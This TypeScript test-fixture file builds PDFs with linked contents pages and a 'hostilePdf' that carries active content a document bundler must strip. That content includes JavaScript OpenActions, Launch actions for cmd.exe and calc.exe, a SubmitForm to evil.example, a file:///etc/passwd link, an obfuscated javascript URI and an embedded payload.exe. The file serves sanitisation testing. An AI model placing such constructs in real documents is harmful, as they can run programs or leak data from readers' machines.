/**
 * Test fixtures for source links and inertness: PDFs with a linked contents
 * page (by explicit page, by /Dests name, by /Names name-tree string, by GoTo
 * action), a Chromium-printed report whose contents list links to anchors,
 * and a hostile PDF carrying every kind of active content a bundle must drop.
 */
import { createHash } from 'node:crypto';
import { PDFArray, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFRef } from '@cantoo/pdf-lib';
import { extractText } from '../../src/pdf/text.ts';
import type { Printer } from '../../src/print/printer.ts';
import type { BundleSource } from '../../src/bundle/input.ts';
import type { SourceMeta } from '../../src/model/index.ts';

/** Wraps PDF bytes as a bundle source (as the store would load it). */
export async function sourceOf(pdf: Uint8Array, title: string): Promise<BundleSource> {
  const sha256 = createHash('sha256').update(pdf).digest('hex');
  const text = await extractText(pdf);
  const meta: SourceMeta = {
    schemaVersion: 1,
    id: `s-${sha256.slice(0, 16)}`,
    sha256,
    scope: { kind: 'library' },
    originalName: `${title}.pdf`,
    originalFile: 'original.pdf',
    format: 'pdf',
    pages: text.length,
    flags: [],
    title,
    published: '2025-03',
    type: 'report',
    previousEditions: [],
    importedAt: '2026-01-01T00:00:00.000Z',
  };
  return { meta, pdf, text };
}

/**
 * Five pages; page 1 is a contents list with four links: to page 3 by explicit
 * destination, to page 4 by a /Dests name, to page 5 by a name-tree string,
 * and to page 2 through a GoTo action with a name-tree string.
 */
export async function linkedPdfLibReport(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const pages = Array.from({ length: 5 }, (_, i) => {
    const page = doc.addPage([595, 842]);
    page.drawText(i === 0 ? 'Contents of the pdf-lib report' : `Chapter on page ${i + 1} of the pdf-lib report`, { x: 72, y: 760, size: 14, font });
    return page;
  });
  const ctx = doc.context;
  const at = (page: number) => ctx.obj([pages[page]!.ref, 'XYZ', 72, 780, null]) as PDFArray;
  doc.catalog.set(PDFName.of('Dests'), ctx.register(ctx.obj({ chap4: at(3) })));
  const tree = ctx.obj({ Names: [PDFString.of('chap2'), ctx.obj({ D: at(1) }), PDFHexString.fromText('chap5'), at(4)] });
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ Dests: ctx.register(tree) }));
  const link = (y: number, extra: Record<string, unknown>): PDFRef =>
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, y, 300, y + 16], Border: [0, 0, 0], ...extra } as never));
  const contents = pages[0]!;
  const lines: Array<[string, Record<string, unknown>]> = [
    ['Chapter three (explicit)', { Dest: at(2) }],
    ['Chapter four (named)', { Dest: PDFName.of('chap4') }],
    ['Chapter five (name tree)', { Dest: PDFHexString.fromText('chap5') }],
    ['Chapter two (GoTo action)', { A: ctx.obj({ S: 'GoTo', D: PDFString.of('chap2') }) }],
  ];
  lines.forEach(([label, extra], k) => {
    const y = 700 - k * 30;
    contents.drawText(label, { x: 72, y: y + 4, size: 12, font });
    contents.node.addAnnot(link(y, extra));
  });
  return doc.save({ useObjectStreams: false });
}

/** Where each contents link of linkedPdfLibReport leads (0-based source pages), in /Annots order. */
export const PDF_LIB_LINK_TARGETS = [2, 3, 4, 1];

/** A 7-page report printed by Chromium whose page-1 contents list links to anchors on pages 3, 5 and 7. */
export async function linkedChromiumReport(printer: Printer): Promise<Uint8Array> {
  const page = (id: string, text: string) => `<section style="break-before:page"${id ? ` id="${id}"` : ''}><h2>${text}</h2><p>${text} body text.</p></section>`;
  const html = `<!doctype html><html><head><meta charset="utf-8"><style>body{font:14pt sans-serif}</style></head><body>
    <h1>Country report contents</h1>
    <p><a href="#sec1">1. Security situation</a></p><p><a href="#sec2">2. Hazara in Quetta</a></p><p><a href="#sec3">3. Internal relocation</a></p>
    ${page('', 'Preface')}${page('sec1', 'Security situation')}${page('', 'Security continued')}${page('sec2', 'Hazara in Quetta')}${page('', 'Hazara continued')}${page('sec3', 'Internal relocation')}
  </body></html>`;
  return printer.printHtml(html, { paper: 'A4' });
}

/** Where the Chromium report's contents links lead (0-based source pages). */
export const CHROMIUM_LINK_TARGETS = [2, 4, 6];

/**
 * Two pages carrying everything active: an /OpenAction and document
 * JavaScript, page /AA, Launch, JavaScript, SubmitForm, ImportData, GoToR
 * and file:/javascript: URI links, a FileAttachment annotation with an
 * embedded file, a Sound annotation, a form field with /AA, and XFA. Also
 * a harmless https link that must survive.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const p1 = doc.addPage([595, 842]);
  const p2 = doc.addPage([595, 842]);
  p1.drawText('Hostile report page one: Hazara targeted in Quetta.', { x: 72, y: 760, size: 12, font });
  p2.drawText('Hostile report page two.', { x: 72, y: 760, size: 12, font });
  const ctx = doc.context;
  const js = ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js));
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of('1') }))] }) }));
  p1.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("http://x")') }), C: ctx.obj({ S: 'Launch', F: PDFString.of('calc.exe') }) }));
  const embedded = ctx.register(ctx.stream('secret attachment bytes', { Type: 'EmbeddedFile' }));
  const filespec = ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), UF: PDFHexString.fromText('payload.exe'), EF: ctx.obj({ F: embedded }) });
  const annot = (y: number, extra: Record<string, unknown>) =>
    ctx.register(ctx.obj({ Type: 'Annot', Rect: [72, y, 300, y + 16], Border: [0, 0, 0], ...extra } as never));
  const actions: Array<Record<string, unknown>> = [
    { Subtype: 'Link', A: ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.print()') }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'SubmitForm', F: ctx.obj({ FS: 'URL', F: PDFString.of('http://evil.example/') }) }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'ImportData', F: PDFString.of('data.fdf') }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'URI', URI: PDFString.of('java\tscript:alert(1)') }) },
    { Subtype: 'Link', A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.hrw.org/report'), Next: ctx.obj({ S: 'JavaScript', JS: PDFString.of('1') }) }) },
    { Subtype: 'FileAttachment', FS: filespec, Contents: PDFString.of('attached') },
    { Subtype: 'Sound', Sound: ctx.register(ctx.stream('RIFF', { R: 8000 })) },
    { Subtype: 'Screen', A: ctx.obj({ S: 'Rendition', OP: 0 }) },
  ];
  actions.forEach((a, k) => p1.node.addAnnot(annot(700 - k * 20, a)));
  p2.node.addAnnot(annot(700, { Subtype: 'Link', Dest: [p1.ref, 'Fit'], AA: ctx.obj({ E: js }) }));
  const field = doc.getForm().createTextField('hostile.field');
  field.addToPage(p2, { x: 72, y: 300, width: 200, height: 24 });
  field.acroField.dict.set(PDFName.of('AA'), ctx.obj({ K: ctx.obj({ S: 'JavaScript', JS: PDFString.of('event.rc=false') }) }));
  doc.getForm().acroForm.dict.set(PDFName.of('XFA'), ctx.register(ctx.stream('<xdp:xdp/>')));
  doc.catalog.set(PDFName.of('EmbeddedFiles'), ctx.obj({ Names: [PDFString.of('payload.exe'), filespec] }));
  // pdf-lib drops XFA when it regenerates field appearances.
  return doc.save({ useObjectStreams: false, updateFieldAppearances: false });
}
